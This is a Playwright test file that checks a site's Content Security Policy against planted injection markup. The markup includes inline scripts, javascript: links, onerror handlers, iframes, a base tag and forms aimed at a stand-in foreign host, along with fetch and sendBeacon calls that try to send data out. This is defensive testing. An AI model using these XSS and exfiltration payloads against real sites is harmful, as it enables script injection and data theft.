import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { BrowserContext, Page } from '@playwright/test';
import { expect, type Problems, test } from './support/test.ts';

const FOREIGN = 'https://malo.example.com';
const META = /<meta http-equiv="content-security-policy"[^>]*>/;

/** What someone may manage to put into the page, by the directive that refuses it; what is marked is pressed. */
const PLANTED: Readonly<Record<string, readonly string[]>> = {
  'script-src-elem': [
    '<script>window.planted = true</script>',
    '<script type="module">window.planted = true</script>',
    '<a data-press href="javascript:void(window.planted = true)">x</a>',
    `<script src="${FOREIGN}/a.js"></script>`,
    '<iframe srcdoc="<script>parent.planted = true</script>"></iframe>',
  ],
  'script-src-attr': ['<img src="data:," alt="" onerror="window.planted = true">'],
  'style-src-elem': [
    '<style>body { visibility: hidden }</style>',
    `<link rel="stylesheet" href="${FOREIGN}/a.css">`,
  ],
  'style-src-attr': ['<p style="visibility: hidden">x</p>'],
  'frame-src': [`<iframe src="${FOREIGN}/"></iframe>`],
  'object-src': [`<object data="${FOREIGN}/a.pdf"></object>`],
  'form-action': [
    `<form data-press method="post" action="${FOREIGN}/"><input name="clave" value="1"></form>`,
    '<form data-press><input name="clave" value="1"></form>',
  ],
  'img-src': [`<img src="${FOREIGN}/a.gif?visita" alt="">`],
  'base-uri': [`<base href="${FOREIGN}/">`],
};

/** What a script that already runs may try next, by the directive that refuses it. */
const TRIED: Readonly<Record<string, readonly (() => unknown)[]>> = {
  'require-trusted-types-for': [
    () => void document.body.insertAdjacentHTML('beforeend', '<img src="data:,">'),
    () => {
      document.createElement('script').src = '/x.js';
    },
    // In a later task: what a driver evaluates itself may do so.
    () => new Promise((later) => setTimeout(later)).then(() => new Function('window.planted = true')()),
  ],
  'trusted-types': [
    () => {
      const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy(name: string): void } };
      trustedTypes.createPolicy('default');
    },
  ],
};

/** Opens the page with something planted in it and the policy in one place only; gathers foreign requests. */
async function openPlanted(page: Page, hasHeader: boolean): Promise<readonly string[]> {
  const requested = await foreignRequests(page.context());
  const markup = Object.values(PLANTED).flat().join('');
  await page.route('/', async (route) => {
    const answer = await route.fetch();
    const { 'content-length': _length, ...headers } = answer.headers();
    if (!hasHeader) delete headers['content-security-policy'];
    const html = (await answer.text()).replace('</main>', () => `${markup}</main>`);
    await route.fulfill({
      status: answer.status(),
      headers,
      body: hasHeader ? html.replace(META, '') : html,
    });
  });
  await page.goto('/');
  return requested;
}

async function foreignRequests(context: BrowserContext): Promise<string[]> {
  const requested: string[] = [];
  await context.route(`${FOREIGN}/**`, (route) => {
    requested.push(route.request().url());
    return route.fulfill({ body: '' });
  });
  return requested;
}

/** Signs that something planted took effect. */
function harm(page: Page) {
  return page.evaluate(() => ({
    ran: 'planted' in window,
    base: new URL(document.baseURI).host,
    hidden: [document.body, ...document.querySelectorAll('main > p')].filter(
      (element) => getComputedStyle(element).visibility === 'hidden',
    ).length,
    query: location.search,
  }));
}

/** Presses or sends one of what is marked, past the page's own script, which holds any form that is not live. */
function press(index: number): Promise<void> {
  const target = document.querySelectorAll<HTMLElement>('[data-press]')[index];
  if (target instanceof HTMLFormElement) target.submit();
  else target?.click();
  // The next press must not replace this one's navigation.
  return new Promise((done) => setTimeout(done));
}

/** Waits until the policy has refused something for this directive that often. */
async function expectRefusals({ found, allow }: Problems, directive: string, times: number) {
  allow(/content security policy|refused to|requires 'Trusted|trusted ?types/i);
  const refusals = () => found.filter((problem) => problem.includes(`violation: ${directive} `)).length;
  await expect.poll(refusals, { message: directive }).toBeGreaterThanOrEqual(times);
}

/** The policy stands in two places; each must do without the other. */
for (const place of ['the response header', 'the page itself'] as const) {
  test(`everything planted in the page or tried by a script is refused by ${place}`, async ({
    page,
    problems,
    baseURL,
  }) => {
    const requested = await openPlanted(page, place === 'the response header');
    for (const index of [0, 1, 2]) await page.evaluate(press, index);
    for (const [directive, { length }] of Object.entries(PLANTED)) {
      await expectRefusals(problems, directive, length);
    }
    for (const [directive, attempts] of Object.entries(TRIED)) {
      for (const attempt of attempts) {
        await expect(page.evaluate(attempt)).rejects.toThrow(/TypeError|EvalError/);
      }
      await expectRefusals(problems, directive, attempts.length);
    }
    const send = (url: string) => fetch(url, { method: 'POST', body: 'palabras' }).then(() => 'sent');
    await expect(page.evaluate(send, `${FOREIGN}/`)).rejects.toThrow('Failed to fetch');
    await page.evaluate((url) => navigator.sendBeacon(url, 'palabras'), `${FOREIGN}/`);
    await expectRefusals(problems, 'connect-src', 2);
    expect(await harm(page)).toEqual({ ran: false, base: new URL(baseURL ?? '').host, hidden: 0, query: '' });
    expect(requested).toEqual([]);
  });
}

test('control: without a policy the same markup takes effect, and the tests above would see it', async ({
  page,
}) => {
  const requested = await foreignRequests(page.context());
  const html = `<!doctype html><title>x</title><main>${Object.values(PLANTED).flat().join('')}</main>`;
  await page.route('/', (route) => route.fulfill({ contentType: 'text/html', body: html }));
  await page.goto('/');
  await expect.poll(() => harm(page)).toMatchObject({ ran: true, base: 'malo.example.com', hidden: 2 });
  expect(new Set(requested.map((url) => new URL(url).pathname))).toEqual(
    new Set(['/a.js', '/a.css', '/', '/a.pdf', '/a.gif']),
  );
});

test('another site cannot show the page in a frame of its own', async ({ page, problems, baseURL }) => {
  const other = createServer((_request, response) => {
    response.setHeader('Content-Type', 'text/html');
    response.end(`<iframe src="${baseURL}/"></iframe>`);
  });
  await new Promise<void>((ready) => other.listen(0, 'localhost', ready));
  await page.goto(`http://localhost:${(other.address() as AddressInfo).port}/`);
  problems.allow(/frame-ancestors/);
  await expect.poll(() => problems.found.join('\n')).toContain(`"frame-ancestors 'none'"`);
  await expect(page.frameLocator('iframe').locator('#hero')).toHaveCount(0);
  other.close();
});
